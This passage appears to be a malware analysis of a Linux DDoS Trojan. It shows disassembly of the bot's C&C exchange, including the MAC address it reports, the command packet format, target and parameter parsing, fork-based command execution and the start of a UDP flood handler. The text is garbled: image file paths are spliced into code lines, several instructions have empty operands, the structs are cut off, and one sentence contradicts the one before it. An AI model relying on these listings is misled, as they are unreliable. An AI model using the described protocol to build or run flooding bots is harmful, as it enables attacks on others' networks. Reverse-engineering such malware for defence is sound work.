The MAC address of a network card is also sent to the C&C server:.text:0804B756                 push    edx             ; ifconf *
.text:0804B757                 push    SIOCGIFFLAGS    ; request
.text:0804B75C                 push    esi             ; d
.text:0804B75D                 call    ___GI_ioctl
.text:0804B762                 add     esp, 10h
.text:0804B765                 test    eax, eax
.text:0804B767                 jnz     short loc_804B735
.text:0804B769                 test    byte ptr [esp+48Ch+a1.ifr_ifru], 8
.text:0804B771                 jnz     short loc_804B735
.text:0804B773                 push    eax             ; char *.text:0804B774                 lea     eax, [esp+490h+a1]
.text:0804B77B                 push    eax             ; ifconf *
.text:0804B77C                 push    SIOCGIFHWADDR   ; request
.text:0804B781                 push    esi             ; d
.text:0804B782                 call    ___GI_ioctl
.text:0804B787                 add     esp, 10h
.text:0804B78A                 test    eax, eax
.text:0804B78C                 jnz     short loc_804B735
.text:0804B78E                 push    esi
.text:0804B78F                 push    6               ; a3
.text:0804B791                 lea     edx, [esp+494h+a1.ifr_ifru+2]
.text:0804B798                 push    edx             ; a2
.text:0804B799                 lea     eax, [esp+498h+macAddr]
.text:0804B7A0                 push    eax             ; a1
.text:0804B7A1                 call    strncpy.text:0804B7A6                 add     esp, 10h
.text:0804B7A9 loc_804B7A9:                            ; CODE XREF: main+381j...
.text:0804B7A9                 push    4000h           ; int
.text:0804B7AE                 push    6               ; int
.text:0804B7B0                 lea     edx, [esp+494h+macAddr]
.text:0804B7B7                 mov     ebx, ds:fd
.text:0804B7BD                 push    edx             ; char *
.text:0804B7BE                 push    ebx             ; int
.text:0804B7BF                 call    ___libc_send
.text:0804B7C4                 mov     dword ptr [esp+0], 3
.text:0804B7CB                 call    get_data_char
.text:0804B7D0                 mov     ecx, ds:fd
.text:0804B7D6                 mov     [esp+49Ch+var_15], al
.text:0804B7DD                 push    4000h           ; int
.text:0804B7E2                 push    1               ; int
.text:0804B7E4                 xor     esi, esi
.text:0804B7E6                 lea     eax, [esp+4A4h+var_15]
.text:0804B7ED                 push    eax             ; char *
.text:0804B7EE                 push    ecx             ; int
.text:0804B7EF                 call    ___libc_send

Data from the C&C server is saved to the buffer. If more than one command is received during an iteration, they are handled one by one. The format of the received command (for number fields, network byte order is used) is as follows:

fullLengthfull length of the received command2sleepTimeTime for execution (every command runs a new process using fork and then kills it)4
cmdcommand number1
hostCountnumber of attacked hosts1
target[hostCount]target array5*hostCount
param_cntnumber of parameters1

If the field fullLength equals 0, two zero bytes are sent to the C&C server:

.text:0804B518 recv_ok:                                ; CODE XREF: main+165j
.text:0804B518                 mov     ax, [edi]
.text:0804B51B                 ror     ax, 8
.text:0804B51F                 test    ax, ax
.text:0804B522                 jnz     short process_command
.text:0804B524                 mov     eax, ds:fd
.text:0804B529                 push    4000h           ; int
.text:0804B52E                 push    2               ; int
.text:0804B530                 push    edi             ; char *
.text:0804B531                 push    eax             ; int
.text:0804B532                 call    ___libc_send
.text:0804B537                 add     esp, 0Ch
.text:0804B53A                 sub     esi, 2
.text:0804B53D                 push    0FFFFFFFFh
.text:0804B53F                 push    2
.text:0804B541                 mov     ebp, [esp+498h+ptr_to_third_comm_byte]
.text:0804B545                 push    ebp
.text:0804B546                 call    shiftBuffer
.text:0804B54B                 add     esp, 10h
.text:0804B54E                 jmp     entry_point_of_payload_execution

If the length is zero, the processor of the received command is launched:

text:0804B4D0 process_command:                        ; CODE XREF: main+1C2j
.text:0804B4D0                 cmp     ax, 1
.text:0804B4D4                 jz      short loc_804B4DC
.text:0804B4D6                 cmp     ax, 1000h
.text:0804B4DA                 ja      short entry_point_of_payload_execution.text:0804B4DC loc_804B4DC:                            ; CODE XREF: main+174j
.text:0804B4DC                 cmp     ax, si
.text:0804B4DF                 ja      short entry_point_of_payload_execution
.text:0804B4E1                 sub     si, ax
.text:0804B4E4                 mov     ebx, eax
.text:0804B4E6                 and     ebx, 0FFFFh
.text:0804B4EC                 push    edx
.text:0804B4ED                 push    edx
.text:0804B4EE                 lea     eax, [ebx-2]
.text:0804B4F1                 push    eax             ; a2
.text:0804B4F2                 mov     eax, [esp+498h+ptr_to_third_comm_byte]
.text:0804B4F6                 push    eax             ; a1
.text:0804B4F7                 call    process
.text:0804B4FC                 add     esp, 0Ch
.text:0804B4FF                 push    0FFFFFFFFh
.text:0804B501                 push    ebx
.text:0804B502                 lea     ebx, [edi+ebx]
.text:0804B505                 push    ebx
.text:0804B506                 call    shiftBuffer
.text:0804B50B                 add     esp, 10h
.text:0804B50E                 cmp     si, 1
.text:0804B512                 jbe     entry_point_of_payload_execution


The function receives a pointer to the third byte of the command and its length. Then it starts parsing the command’s arguments and filling the respective structures:

//structures representing data received from the server
struct target{
    uint32_t ip; //ip цели
    uint8_t  maskbits;  // if the specified number is less than 31, the Trojan will attack random hosts obtained from ip by randomly generating lowest bits maskbits
struct param{
    uint8_t id;
    uint8_t len;
    uint8_t data[len];
//structures thatare displayed in the Trojan
struct target_parsed {
    uint32      target_ip;
    uint8       maskbits;
    sockaddr_in sockaddr;
struct param_parsed {
    uint8   id;
    char *  data;

Code to initiate an analysis of the packet header:

.text:0804BA60 head_packet_parse:                      ; CODE XREF:process+12j
.text:0804BA60                 mov     edi, [esi+pkct_cmd.sleepTime] ; ebx = size
.text:0804BA62                 ror     di, 8
.text:0804BA66                 ror     edi, 10h
.text:0804BA69                 ror     di, 8
.text:0804BA6D                 cmp     ebx, 4
.text:0804BA70                 jz      short ret_form_func
.text:0804BA72                 mov     al, [esi+pkct_cmd.cmd]
.text:0804BA75                 cmp     ebx, 5
.text:0804BA78                 mov     [esp+4Ch+var_39], al
.text:0804BA7C                 jz      short ret_form_func
.text:0804BA7E                 mov     al, [esi+pkct_cmd.host_count]
.text:0804BA81                 test    al, al
.text:0804BA83                 jz      short ret_form_func
.text:0804BA85                 and     eax, 0FFh
.text:0804BA8A                 lea     edx, [ebx-6]
.text:0804BA8D                 mov     [esp+4Ch+unprocessed_bytes], edx
.text:0804BA91                 mov     [esp+4Ch+target_count], eax
.text:0804BA95                 lea     ebp, [eax+eax*4]
.text:0804BA98                 cmp     edx, ebp
.text:0804BA9A                 jb      short ret_form_func
.text:0804BA9C                 lea     eax, []
.text:0804BA9F                 mov     [esp+4Ch+var_18], eax
.text:0804BAA3                 push    eax.text:0804BAA4                 push    eax
.text:0804BAA5                 push    18h             ; size
.text:0804BAA7                 mov     ecx, [esp+58h+target_count]
.text:0804BAAB                 push    ecx             ; nmemb
.text:0804BAAC                 call    _calloc
.text:0804BAB1                 mov     [esp+5Ch+targets], eax
.text:0804BAB5                 add     esp, 10h
.text:0804BAB8                 mov     edx, [esp+4Ch+target_count]
.text:0804BABC                 test    edx, edx
.text:0804BABE                 jle     short end_target_parsing

Parsing code for received targets:

.text:0804BAC7 parse_next_target:                      ; CODE XREF: process+A3j
.text:0804BAC7                 mov     edx, []
.text:0804BACA                 mov     [esi+target_parsed.target_ip], edx
.text:0804BACC                 mov     al, []
.text:0804BACFadd     ecx, 5
.text:0804BAD2                 mov     [esi+target_parsed.masksize], al
.text:0804BAD5                 mov     [esi+target_parsed.sockaddr.sin_family], 2
.text:0804BADB                 mov     [esi+target_parsed.sockaddr.sin_addr.s_addr], edx
.text:0804BADE                 add     esi, 18h
.text:0804BAE1                 cmp     ecx, ebp
.text:0804BAE3                 jnz     short parse_next_target
.text:0804BAE5                 mov     edx, [esp+4Ch+target_count]
.text:0804BAE9                 add     ecx, 6
.text:0804BAEC                 mov     [esp+4Ch+var_18], ecx
.text:0804BAF0                 lea     eax, [edx+edx*4]
.text:0804BAF3                 sub     ebx, eax
.text:0804BAF5                 sub     ebx, 6
.text:0804BAF8                 mov     [esp+4Ch+unprocessed_bytes], ebx

Then the Trojan determines whether the transmitted parameters need to be parsed. If they do, the run_command function is called after the parsing is complete:

.text:0804BAFCend_target_parsing:                     ; CODE XREF: process+7Ej
.text:0804BAFC                 mov     eax, [esp+4Ch+unprocessed_bytes].text:0804BB00                 mov     [esp+4Ch+params_buffer], 0
.text:0804BB08                 test    eax, eax
.text:0804BB0A                 jz      short finish_processing ; no param_cnt field = error
.text:0804BB0C                 mov     ebx, [esp+4Ch+var_18]
.text:0804BB10                 mov     bl, [ebx]
.text:0804BB12                 mov     [esp+4Ch+param_cnt], bl
.text:0804BB16                 test    bl, bl
.text:0804BB18                 jnz     start_parse_params
.text:0804BB1E                 mov     [esp+4Ch+var_20], 0
.text:0804BB26 start_command_execution:                ; CODE XREF: process+198j
.text:0804BB26                                         ; process+27Aj
.text:0804BB26                 push    ebp
.text:0804BB27                 push    ebp
.text:0804BB28                 mov     esi, [esp+54h+params_buffer]
.text:0804BB2C                 xor     eax,eax
.text:0804BB2E                 push    esi
.text:0804BB2F                 mov     ebx, [esp+58h+param_count]
.text:0804BB33                 push    ebx
.text:0804BB34                 mov     ecx, [esp+5Ch+targets]
.text:0804BB38                 push    ecx
.text:0804BB39                 mov     edx, [esp+60h+targets_count]
.text:0804BB3D                 push    edx
.text:0804BB3E                 mov     al, [esp+64h+params]
.text:0804BB42                 push    eax
.text:0804BB43                 push    edi
.text:0804BB44                 call    run_command


The function receives a time value, a command number, a quantity and array of targets, and a quantity and array of parameters. First, the handler needed is searched for:

.text:0804B937                 mov     bl, ds:handlers.length.text:0804B93D                 mov     al, [esp+2Ch+number]
.text:0804B941                 test    bl, bl
.text:0804B943                 mov     [esp+2Ch+local_saved_number], al
.text:0804B947                 movzx   ebp, [esp+2Ch+target_count]
.text:0804B94C                 movzx   edi, [esp+2Ch+params_count]
.text:0804B951                 jz      short return    ; empty handlers
.text:0804B953                 mov     ecx, ds:handlers.handlers
.text:0804B959                 xor     esi, esi
.text:0804B95B                 cmp     al, [ecx+cmd.number]
.text:0804B95D                 jz      short handler_found
.text:0804B95F                 xor     edx, edx
.text:0804B961                 jmp     short loc_804B977
.text:0804B963 ; ---
.text:0804B963 next_entry:                             ; CODE XREF: run_command+4Aj
.text:0804B963                 xor     eax, eax
.text:0804B965                 mov     al, dl
.text:0804B967                 lea     esi, ds:0[eax*8].text:0804B96E                 mov     al, [esp+2Ch+local_saved_number]
.text:0804B972                 cmp     [esi+ecx], al
.text:0804B975                 jz      short handler_found
.text:0804B977 loc_804B977:                            ; CODE XREF: run_command+31j
.text:0804B977                 inc     edx
.text:0804B978                 cmp     dl, bl
.text:0804B97A                 jnz     short next_entry

Then child processes are run:

pid_children = fork(); //parent
if ( pid_children <= 0 ) {
    if ( !pid_children ){
        pid_2 = fork();
        if ( pid_2 > 0 )
            exit(0); //child die, so parent returns to command execution
        if ( !pid_2){
            v6 = fork();if ( !v6 ){
              handlers.handlers[v7].func(target_count, targets, params_count, params); // run command
            if ( v6 > 0 ){
              kill(v6, 9); //kills his child after $time seconds
}else{//parent waiting for children death
    LOBYTE(v6) = __libc_waitpid(pid_children, &status, 0);

Command handlers

.text:08048190 cmd15           proc near               ; CODE XREF: cmd15j.text:08048190                                         ; DATA XREF: fillCmdHandlers+27Ao
.text:08048190                 jmp     short cmd15
.text:08048190 cmd15           endp
.text:08048190 ; ---
.text:08048192                 align 10h
.text:080481A0 ; === S U B R O U T I N E ===
.text:080481A0 ; Attributes: noreturn
.text:080481A0 cmd16           proc near               ; CODE XREF: cmd16j
.text:080481A0                                         ; DATA XREF: fillCmdHandlers+2B4o
.text:080481A0                 jmp     short cmd16
.text:080481A0 cmd16           endp
.text:080481A0 ; ---
.text:080481A2                 align 10h
.text:080481B0 ; === S U B R O U T I N E ===
.text:080481B0 ; Attributes: noreturn
.text:080481B0 cmd17           proc near               ; CODE XREF: cmd17j
.text:080481B0                                         ; DATA XREF: fillCmdHandlers+2EBo
.text:080481B0                 jmp     short cmd17
.text:080481B0 cmd17           endp

Other handlers act as follows:

void handle(target *t, param *p){
    the Trojan receives packet parameters
    a packet is created for every target
    yet 1 {
        for every target
            if (maskbits <= 31), a new target IP is selected
            packet is being sent

cmd0 - UDP Flood

First, the parameters received are parsed:

v23 = calloc(target_count, 4u);
TOS = getNumberOrDefault(params_count, params, 2, 0);
ident = getNumberOrDefault(params_count, params, 3, 0xFFFF);
